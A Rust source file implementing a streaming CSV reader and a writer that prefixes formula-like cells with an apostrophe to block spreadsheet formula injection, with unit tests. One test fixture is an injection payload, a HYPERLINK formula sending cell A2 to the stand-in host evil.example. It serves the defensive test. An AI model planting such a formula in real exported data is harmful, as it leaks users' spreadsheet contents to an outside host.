//! CSV after RFC 4180, read incrementally (a file arrives in chunks of any size) and written
//! for spreadsheet programs (UTF-8 with a byte-order mark, CRLF line ends).
//!
//! A cell a spreadsheet would run as a formula (CWE-1236: it starts with `=`, `+`, `-`, `@`,
//! a tab or a carriage return, or their full-width forms) is written behind a `'`, which
//! spreadsheets show as text; the reader takes that guard off again, so an exported file
//! imports back as it was.
//!
//! Quotes, commas and line breaks are ASCII, and no byte of a multi-byte UTF-8 character is
//! ASCII, so the reader works on bytes and decodes each finished field.

/// Longest record accepted, in bytes: a stream without line ends cannot grow without bound.
pub const MAX_RECORD_BYTES: usize = 1 << 20;

/// A record that could not be read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CsvError {
    /// A field is not UTF-8.
    NotUtf8,
    /// A record exceeds [`MAX_RECORD_BYTES`].
    TooLong,
    /// The input ended inside a quoted field.
    UnclosedQuote,
}

impl std::fmt::Display for CsvError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            CsvError::NotUtf8 => "is not UTF-8 text",
            CsvError::TooLong => "is longer than 1 MiB",
            CsvError::UnclosedQuote => "ends inside a quoted field",
        })
    }
}

/// Reads records from chunks.
#[derive(Debug, Default)]
pub struct CsvReader {
    record: Vec<Result<String, CsvError>>,
    field: Vec<u8>,
    in_quotes: bool,
    /// The last byte was a closing quote candidate inside a quoted field.
    quote_pending: bool,
    record_bytes: usize,
    started: bool,
}

impl CsvReader {
    /// A reader.
    pub fn new() -> Self {
        Self::default()
    }

    fn end_field(&mut self) {
        let bytes = std::mem::take(&mut self.field);
        let field = String::from_utf8(bytes)
            .map(|f| match unguarded(&f) {
                Some(formula) => formula.to_owned(),
                None => f,
            })
            .map_err(|_| CsvError::NotUtf8);
        self.record.push(field);
    }

    fn end_record(&mut self, out: &mut Vec<Result<Vec<String>, CsvError>>) {
        self.end_field();
        let fields = std::mem::take(&mut self.record);
        self.record_bytes = 0;
        // A blank line is no record.
        if fields.len() == 1 && matches!(&fields[0], Ok(f) if f.is_empty()) {
            return;
        }
        out.push(fields.into_iter().collect());
    }

    /// Feeds a chunk; returns the records it completed.
    pub fn push(&mut self, mut chunk: &[u8]) -> Vec<Result<Vec<String>, CsvError>> {
        if !self.started {
            self.started = true;
            chunk = chunk.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(chunk);
        }
        let mut out = Vec::new();
        for &b in chunk {
            self.record_bytes += 1;
            if self.record_bytes > MAX_RECORD_BYTES {
                if b == b'\n' && !self.in_quotes {
                    out.push(Err(CsvError::TooLong));
                    self.record.clear();
                    self.field.clear();
                    self.record_bytes = 0;
                }
                continue;
            }
            if self.in_quotes {
                if self.quote_pending {
                    self.quote_pending = false;
                    if b == b'"' {
                        self.field.push(b'"');
                        continue;
                    }
                    self.in_quotes = false;
                } else if b == b'"' {
                    self.quote_pending = true;
                    continue;
                } else {
                    self.field.push(b);
                    continue;
                }
            }
            match b {
                b'"' if self.field.is_empty() => self.in_quotes = true,
                b',' => self.end_field(),
                b'\n' => {
                    if self.field.last() == Some(&b'\r') {
                        self.field.pop();
                    }
                    self.end_record(&mut out);
                }
                _ => self.field.push(b),
            }
        }
        out
    }

    /// Ends the input; returns the last record if it had no line end.
    pub fn finish(mut self) -> Vec<Result<Vec<String>, CsvError>> {
        let mut out = Vec::new();
        if self.in_quotes && !self.quote_pending {
            out.push(Err(CsvError::UnclosedQuote));
            return out;
        }
        if !self.field.is_empty() || !self.record.is_empty() {
            if self.field.last() == Some(&b'\r') {
                self.field.pop();
            }
            self.end_record(&mut out);
        }
        out
    }
}

/// Characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

fn starts_formula(text: &str) -> bool {
    text.starts_with(FORMULA_STARTS)
}

/// The cell behind a formula guard, if `cell` is a guarded one.
fn unguarded(cell: &str) -> Option<&str> {
    cell.strip_prefix('\'').filter(|rest| starts_formula(rest))
}

/// Appends one record, quoting fields that need it and guarding formulas.
pub fn write_record(out: &mut Vec<u8>, fields: &[impl AsRef<str>]) {
    for (i, field) in fields.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        let guarded;
        let mut field = field.as_ref();
        if starts_formula(field) {
            guarded = format!("'{field}");
            field = &guarded;
        }
        if field.contains([',', '"', '\n', '\r']) {
            out.push(b'"');
            out.extend(field.replace('"', "\"\"").as_bytes());
            out.push(b'"');
        } else {
            out.extend(field.as_bytes());
        }
    }
    out.extend(b"\r\n");
}

/// The byte-order mark that tells spreadsheet programs the file is UTF-8.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

#[cfg(test)]
mod tests {
    use super::*;

    fn read_all(chunks: &[&[u8]]) -> Vec<Result<Vec<String>, CsvError>> {
        let mut reader = CsvReader::new();
        let mut out = Vec::new();
        for chunk in chunks {
            out.extend(reader.push(chunk));
        }
        out.extend(reader.finish());
        out
    }

    #[test]
    fn reads_quotes_line_breaks_and_split_chunks() {
        let text =
            "\u{FEFF}name,notes\r\n\"Wang, Xiaoming\",\"said \"\"hi\"\"\nthen left\"\r\n\r\n深圳,x";
        let whole = read_all(&[text.as_bytes()]);
        let bytes = text.as_bytes();
        // Split inside a multi-byte character and inside a quoted field.
        let split = read_all(&[&bytes[..30], &bytes[30..62], &bytes[62..]]);
        assert_eq!(whole, split);
        assert_eq!(
            whole,
            vec![
                Ok(vec!["name".into(), "notes".into()]),
                Ok(vec![
                    "Wang, Xiaoming".into(),
                    "said \"hi\"\nthen left".into()
                ]),
                Ok(vec!["深圳".into(), "x".into()]),
            ]
        );
    }

    #[test]
    fn reports_bad_records() {
        assert_eq!(read_all(&[b"a,\xff\n"]), vec![Err(CsvError::NotUtf8)]);
        assert_eq!(read_all(&[b"\"open"]), vec![Err(CsvError::UnclosedQuote)]);
    }

    #[test]
    fn formulas_are_written_as_text_and_read_back() {
        let cells = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"open\")",
            "+8613800138000",
            "-1",
            "@SUM(A1)",
            "\tx",
            "＝1+1",
            "plain",
            "'kept",
        ];
        let mut out = Vec::new();
        write_record(&mut out, &cells);
        let text = String::from_utf8(out.clone()).unwrap();
        for line_start in ["'=HYPERLINK", ",'+86", ",'-1", ",'@SUM", "'\tx", ",'＝1"] {
            assert!(text.contains(line_start), "{line_start} in {text}");
        }
        let read = read_all(&[&out]);
        assert_eq!(
            read,
            vec![Ok(cells.iter().map(|c| c.to_string()).collect())]
        );
    }

    #[test]
    fn writes_what_it_reads() {
        let mut out = Vec::new();
        write_record(&mut out, &["a,b", "say \"x\"", "line\nbreak", "plain"]);
        let read = read_all(&[&out]);
        assert_eq!(
            read,
            vec![Ok(vec![
                "a,b".to_owned(),
                "say \"x\"".to_owned(),
                "line\nbreak".to_owned(),
                "plain".to_owned()
            ])]
        );
    }
}
